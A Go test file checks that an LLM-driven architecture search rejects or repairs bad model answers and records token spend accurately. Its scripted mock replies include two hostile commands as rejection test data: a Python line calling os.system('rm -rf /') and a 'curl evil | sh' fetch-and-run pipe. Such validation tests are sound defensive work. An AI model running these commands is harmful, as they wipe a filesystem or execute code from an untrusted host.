package evolve

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"testing"

	"github.com/arbor-nas/arbor/evolve/store"
	"github.com/arbor-nas/arbor/llm"
	"github.com/arbor-nas/arbor/llm/llmtest"
	"github.com/arbor-nas/arbor/train/traintest"
)

// TestSearchWithMockedLLM runs the search with the OpenAI-compatible
// provider against the llmtest server (real HTTP, real client), scripted
// with answers that must be rejected or repaired. Every stored candidate
// must come from a validated choice, and the stored spend must equal what
// the server reported.
func TestSearchWithMockedLLM(t *testing.T) {
	_, table := traintest.NB201(t)
	srv := llmtest.New(
		llmtest.Malformed(),
		llmtest.Prose(`{"option": "o999", "args": {}}`),                          // not offered
		llmtest.Reply("```python\nimport os; os.system('rm -rf /')\n```"),        // code, not an answer
		llmtest.Reply(`{"option": "o1", "args": {}, "shell": "curl evil | sh"}`), // extra key
		llmtest.Malformed(), llmtest.Malformed(), llmtest.Malformed(),            // exhausts repairs: fallback
	)
	// Then a model that names a different option each time and leaves the
	// arguments to their defaults (the options are shuffled per decision).
	for i := range 300 {
		srv.Push(llmtest.Reply(fmt.Sprintf(`{"option": "o%d", "args": {}, "rationale": "try %d"}`, i%6+1, i)))
	}
	defer srv.Close()

	dir := t.TempDir()
	rs, err := store.CreateStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	cfg := llm.DefaultConfig()
	cfg.BaseURL, cfg.Model, cfg.Structured = srv.URL(), "mock-model", true
	cfg.Models = nil
	quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
	res, err := llm.New(cfg, llm.WithCallLogger(rs), llm.WithLogger(quiet))
	if err != nil {
		t.Fatal(err)
	}
	const budget = 15
	e := nb201Engine(t, table, rs, 11, budget, res)
	e.Log = quiet
	runEngine(t, e)

	ctx := context.Background()
	cands, err := rs.Candidates(ctx)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := rs.Calls(ctx)
	if err != nil {
		t.Fatal(err)
	}
	calls := map[string]llm.CallRecord{}
	for _, row := range rows {
		var r llm.CallRecord
		if err := json.Unmarshal(row.Record, &r); err != nil {
			t.Fatal(err)
		}
		if _, dup := calls[row.CandidateID]; dup {
			t.Fatalf("two call records for candidate %s", row.CandidateID)
		}
		calls[row.CandidateID] = r
	}

	trained, fallbacks, repaired := 0, 0, 0
	for _, c := range cands {
		if c.Op == OpSeed {
			continue
		}
		if c.Status == StatusTrained || c.Status == StatusFailed {
			trained++
		}
		r, ok := calls[c.ID]
		if !ok {
			t.Fatalf("candidate %s (%s, %s) has no LLM call record", c.ID, c.Status, c.Reason)
		}
		switch r.Outcome {
		case llm.OutcomeOK:
		case llm.OutcomeRepaired:
			repaired++
		case llm.OutcomeFallback:
			fallbacks++
		default:
			t.Fatalf("candidate %s came from a call with outcome %s: %s", c.ID, r.Outcome, r.Error)
		}
		if r.OptionID == "" || c.Rationale == "" {
			t.Fatalf("candidate %s: option %q rationale %q", c.ID, r.OptionID, c.Rationale)
		}
		if c.Fallback != (r.Outcome == llm.OutcomeFallback) {
			t.Fatalf("candidate %s: fallback flag %v but call outcome %s", c.ID, c.Fallback, r.Outcome)
		}
		for _, v := range c.Args {
			if s, ok := v.(string); ok && len(s) > 40 {
				t.Fatalf("candidate %s carries a suspicious argument %q", c.ID, s)
			}
		}
	}
	if trained != budget-1 {
		t.Fatalf("%d children trained, want %d", trained, budget-1)
	}
	if repaired == 0 || fallbacks == 0 {
		t.Fatalf("the scripted bad answers gave %d repaired and %d fallback choices; want both > 0", repaired, fallbacks)
	}
	sp, err := rs.Spend(ctx)
	if err != nil {
		t.Fatal(err)
	}
	p, c := srv.Usage()
	if sp.Tokens != p+c {
		t.Fatalf("stored spend %d tokens, the server counted %d", sp.Tokens, p+c)
	}
	sum, err := rs.Summary(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if sum.LLM.Decisions != len(calls) || sum.LLM.Requests != len(srv.Requests()) || sum.Trained != budget {
		t.Fatalf("summary: %+v", sum)
	}
}
